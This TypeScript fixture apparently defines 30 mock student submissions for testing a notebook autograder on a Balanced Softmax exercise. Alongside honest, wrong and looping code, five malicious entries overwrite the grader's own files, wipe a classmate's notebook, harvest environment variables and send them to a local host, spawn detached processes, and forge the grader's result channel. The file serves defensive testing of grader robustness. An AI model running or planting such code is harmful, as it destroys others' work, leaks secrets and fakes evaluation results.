/**
 * A class of 30 submissions of chapter 03's exercise (Balanced Softmax: `logPriorByHand`,
 * `balancedSoftmaxByHand`, `balancedPrediction`) for `npm run bench:grade`: honest work written in
 * several styles, partial work, likely wrong formulas, library calls, malicious code and loops,
 * and two files that are not valid submissions. Each is the released exercise with some answer
 * cells replaced; `expect` says what a correct grader must give it.
 */
import type { Notebook } from '../../notebook/format';

export interface ClassSubmission {
  /** File name without `.ipynb` (the gradebook's student column). */
  student: string;
  kind: 'honest' | 'partial' | 'wrong' | 'library' | 'malicious' | 'loop' | 'broken';
  /** Answer cell id -> source; cells not named keep the released TODO stub. */
  cells: Record<string, string>;
  /** Text for the written answer (markdown cell 'written-answer'). */
  written?: string;
  /** The whole file instead of a notebook (broken submissions). */
  raw?: string;
  /** What the grade must be: full marks, 0, or anything below full marks. */
  expect: 'full' | 'zero' | 'below-full' | 'partial';
}

const LP = 'exercise-log-prior';
const BS = 'exercise-balanced-softmax';
const PR = 'exercise-prediction';

const logPrior = {
  map: `function logPriorByHand(counts: number[]): number[] {
  const total = counts.reduce((a, b) => a + b, 0);
  return counts.map((n) => Math.log(n / total + 1e-9));
}`,
  loop: `function logPriorByHand(counts: number[]): number[] {
  let total = 0;
  for (const n of counts) total += n;
  const out: number[] = [];
  for (let c = 0; c < counts.length; c++) out.push(Math.log(counts[c] / total + 1e-9));
  return out;
}`,
};
const balanced = {
  map: `function balancedSoftmaxByHand(logits: number[][], labels: number[], counts: number[]): number {
  const prior = logPriorByHand(counts);
  let total = 0;
  logits.forEach((row, i) => {
    const adjusted = row.map((z, c) => z + prior[c]);
    const max = Math.max(...adjusted);
    total += max + Math.log(adjusted.reduce((s, a) => s + Math.exp(a - max), 0)) - adjusted[labels[i]];
  });
  return total / logits.length;
}`,
  loop: `function balancedSoftmaxByHand(logits: number[][], labels: number[], counts: number[]): number {
  const prior = logPriorByHand(counts);
  let sum = 0;
  for (let i = 0; i < logits.length; i++) {
    let max = -Infinity;
    for (let c = 0; c < logits[i].length; c++) max = Math.max(max, logits[i][c] + prior[c]);
    let s = 0;
    for (let c = 0; c < logits[i].length; c++) s += Math.exp(logits[i][c] + prior[c] - max);
    sum += max + Math.log(s) - (logits[i][labels[i]] + prior[labels[i]]);
  }
  return sum / logits.length;
}`,
  tf: `function balancedSoftmaxByHand(logits: number[][], labels: number[], counts: number[]): number {
  return tf.tidy(() => {
    const adjusted = tf.add(tf.tensor2d(logits), tf.tensor1d(logPriorByHand(counts)));
    const picked = tf.sum(tf.mul(adjusted, tf.oneHot(tf.tensor1d(labels, 'int32'), counts.length)), 1);
    return tf.mean(tf.sub(tf.logSumExp(adjusted, 1), picked)).dataSync()[0];
  });
}`,
};
const prediction = {
  map: `function balancedPrediction(logits: number[][]): number[] {
  return logits.map((row) => row.indexOf(Math.max(...row)));
}`,
  loop: `function balancedPrediction(logits: number[][]): number[] {
  return logits.map((row) => {
    let best = 0;
    for (let c = 1; c < row.length; c++) if (row[c] > row[best]) best = c;
    return best;
  });
}`,
};

const honest = (lp: string, bs: string, pr: string) => ({ [LP]: lp, [BS]: bs, [PR]: pr });
const WRITTEN =
  'Adding log(prior) raises the logits of frequent classes during training, so the classifier itself ' +
  'does not have to; at test time the prior is left out and the decision boundary moves towards the head.';
const MARKER = 'RESCOM-CLASS-MARKER';

/** The processes the malicious and looping submissions start carry this in their command line. */
export const CLASS_MARKER = MARKER;

/** The 30 submissions; `classmate` is the path of another student's notebook (the sabotage target). */
export function classSubmissions(paths: { classmate: string; repoLib: string }): ClassSubmission[] {
  return [
    // Honest, in several styles (8).
    { student: 's01-ada', kind: 'honest', cells: honest(logPrior.map, balanced.map, prediction.map), written: WRITTEN, expect: 'full' },
    { student: 's02-ben', kind: 'honest', cells: honest(logPrior.loop, balanced.loop, prediction.loop), written: WRITTEN, expect: 'full' },
    { student: 's03-cleo', kind: 'honest', cells: honest(logPrior.map, balanced.tf, prediction.map), expect: 'full' },
    { student: 's04-dev', kind: 'honest', cells: honest(logPrior.loop, balanced.map, prediction.loop), written: WRITTEN, expect: 'full' },
    { student: 's05-eli', kind: 'honest', cells: honest(logPrior.map, balanced.loop, prediction.map), expect: 'full' },
    { student: 's06-fay', kind: 'honest', cells: honest(logPrior.loop, balanced.tf, prediction.loop), written: WRITTEN, expect: 'full' },
    { student: 's07-gus', kind: 'honest', cells: honest(logPrior.map, balanced.map, prediction.loop), expect: 'full' },
    { student: 's08-hana', kind: 'honest', cells: honest(logPrior.loop, balanced.loop, prediction.map), written: WRITTEN, expect: 'full' },
    // Partial (2).
    { student: 's09-ivo', kind: 'partial', cells: { [LP]: logPrior.map, [PR]: prediction.map }, expect: 'partial' },
    { student: 's10-jo', kind: 'partial', cells: { [LP]: logPrior.loop }, expect: 'partial' },
    // Likely wrong formulas (6).
    { student: 's11-kai', kind: 'wrong', cells: honest(logPrior.map.replace('Math.log(', 'Math.log10('), balanced.map, prediction.map), expect: 'below-full' },
    { student: 's12-lea', kind: 'wrong', cells: honest(logPrior.map.replace('n / total + 1e-9', 'n + 1e-9'), balanced.map, prediction.map), expect: 'below-full' },
    { student: 's13-max', kind: 'wrong', cells: honest(logPrior.map, balanced.map.replace('z + prior[c]', 'z - prior[c]'), prediction.map), expect: 'below-full' },
    { student: 's14-nia', kind: 'wrong', cells: honest(logPrior.map, balanced.map.replace('total / logits.length', 'total'), prediction.map), expect: 'below-full' },
    {
      student: 's15-oli',
      kind: 'wrong',
      cells: honest(logPrior.map, balanced.map.replace('max + Math.log(adjusted.reduce((s, a) => s + Math.exp(a - max), 0))', 'Math.log(adjusted.reduce((s, a) => s + Math.exp(a), 0))'), prediction.map),
      expect: 'below-full',
    },
    { student: 's16-pia', kind: 'wrong', cells: honest(logPrior.map, balanced.map, prediction.map.replace('Math.max(...row)', 'Math.max(0, ...row)')), expect: 'below-full' },
    // Library calls (4): every exercise that calls the library scores 0.
    {
      student: 's17-quin',
      kind: 'library',
      cells: honest(
        'function logPriorByHand(counts: number[]): number[] { return Array.from(rc.losses.logPrior(counts)); }',
        'function balancedSoftmaxByHand(logits: number[][], labels: number[], counts: number[]): number { return rc.losses.balancedSoftmaxLoss({ logits: tf.tensor2d(logits), labels, classCounts: counts }).dataSync()[0]; }',
        prediction.map,
      ),
      expect: 'below-full',
    },
    {
      student: 's18-rae',
      kind: 'library',
      cells: honest(
        logPrior.map,
        "const bs = require('../lib/losses/logit-adjusted.js');\nfunction balancedSoftmaxByHand(logits: number[][], labels: number[], counts: number[]): number { return bs.balancedSoftmaxLoss({ logits: tf.tensor2d(logits), labels, classCounts: counts }).dataSync()[0]; }",
        prediction.map,
      ),
      expect: 'below-full',
    },
    {
      student: 's19-sol',
      kind: 'library',
      cells: honest(
        logPrior.map,
        'function balancedSoftmaxByHand(logits: number[][], labels: number[], counts: number[]): number { return rc.losses.siameseBalancedSoftmaxLoss({ logits: tf.tensor2d([...logits, ...logits]), labels: [...labels, ...labels], classCounts: counts }).dataSync()[0]; }',
        'function balancedPrediction(logits: number[][]): number[] { return Array.from(rc.evaluation.argmaxRows(logits)); }',
      ),
      expect: 'below-full',
    },
    {
      student: 's20-tom',
      kind: 'library',
      cells: honest(
        'function logPriorByHand(counts: number[]): number[] { try { return Array.from(rc.losses.logPrior(counts)); } catch { return counts.map(() => 0); } }',
        balanced.map,
        prediction.map,
      ),
      expect: 'below-full',
    },
    // Malicious (5).
    {
      student: 's21-uma',
      kind: 'malicious',
      cells: honest(
        `const fsx: any = (() => { try { return require('fs'); } catch { return null; } })();
for (const f of [${JSON.stringify(paths.repoLib + '/notebook/score.js')}, '/work/lib/notebook/score.js', '/work/lib/index.js']) {
  try { if (fsx) fsx.writeFileSync(f, 'module.exports = {};'); else rc.util.writeFileAtomic(f, 'module.exports = {};'); } catch {}
}
${logPrior.map}`,
        balanced.map,
        prediction.map,
      ),
      expect: 'full',
    },
    {
      student: 's22-vic',
      kind: 'malicious',
      cells: honest(
        `try { rc.util.writeFileAtomic(${JSON.stringify(paths.classmate)}, '{"cells": []}'); } catch {}
try { require('fs').writeFileSync(${JSON.stringify(paths.classmate)}, '{}'); } catch {}
${logPrior.map}`,
        balanced.map,
        prediction.map,
      ),
      expect: 'full',
    },
    {
      student: 's23-wes',
      kind: 'malicious',
      cells: honest(
        logPrior.map,
        balanced.map,
        `async function balancedPrediction(logits: number[][]): Promise<any> {
  let loot = JSON.stringify(process.env);
  for (let pid = 1; pid < 40; pid++) { try { loot += rc.util.readFileChecked('/proc/' + pid + '/environ', 'x').toString(); } catch {} }
  try { await fetch('http://127.0.0.1:8080/?' + encodeURIComponent(loot), { signal: AbortSignal.timeout(1000) }); } catch {}
  return loot.length > 0 ? [loot.slice(0, 60)] : [];
}`,
      ),
      expect: 'below-full',
    },
    {
      student: 's24-xia',
      kind: 'malicious',
      cells: honest(
        `// A fork bomb and a detached child that keeps stderr open; the hidden tests refuse child_process.
try { const cp = require('child_process'); for (let i = 0; i < 50; i++) cp.spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', '${MARKER}'], { detached: true, stdio: 'inherit' }).unref(); } catch {}
${logPrior.map}`,
        balanced.map,
        prediction.map,
      ),
      expect: 'full',
    },
    {
      student: 's25-yan',
      kind: 'malicious',
      // No honest work: only an attempt to forge the result channel (fd 3) with answers of 0 and exit.
      cells: {
        [LP]: `const job = JSON.parse(rc.util.readFileChecked(process.argv[2], 'job').toString());
require('fs').writeSync(3, JSON.stringify({ result: { cellErrors: {}, answers: job.calls.map(() => ({ value: 0 })) } }) + '\\n');
process.exit(0);`,
      },
      expect: 'zero',
    },
    // Loops (3). A loop at a cell's top level stops the cell, not its (hoisted) function: the
    // function is still graded, and the time-out is flagged.
    { student: 's26-zoe', kind: 'loop', cells: honest(logPrior.map, 'while (true) {}\n' + balanced.map, prediction.map), expect: 'full' },
    {
      student: 's27-abe',
      kind: 'loop',
      cells: honest(logPrior.map, balanced.map, 'function balancedPrediction(logits: number[][]): number[] { for (;;) {} }'),
      expect: 'partial',
    },
    {
      student: 's28-bo',
      kind: 'loop',
      cells: honest(
        logPrior.map,
        balanced.map,
        "function balancedPrediction(logits: number[][]): Promise<number[]> { return new Promise(() => { setInterval(() => {}, 1000); }); }",
      ),
      expect: 'partial',
    },
    // Broken files (2).
    { student: 's29-cy', kind: 'broken', cells: {}, raw: 'this is not a notebook', expect: 'zero' },
    { student: 's30-dee', kind: 'broken', cells: honest('function logPriorByHand(counts: number[]: number[] {', balanced.map, prediction.map), expect: 'below-full' },
  ];
}

/** The released exercise with a submission's cells (and written answer) put in. */
export function submissionNotebook(released: Notebook, submission: ClassSubmission): Notebook {
  const nb: Notebook = JSON.parse(JSON.stringify(released));
  for (const cell of nb.cells) {
    if (submission.cells[cell.id] !== undefined) cell.source = submission.cells[cell.id];
    if (cell.id === 'written-answer' && submission.written) cell.source = submission.written;
  }
  return nb;
}
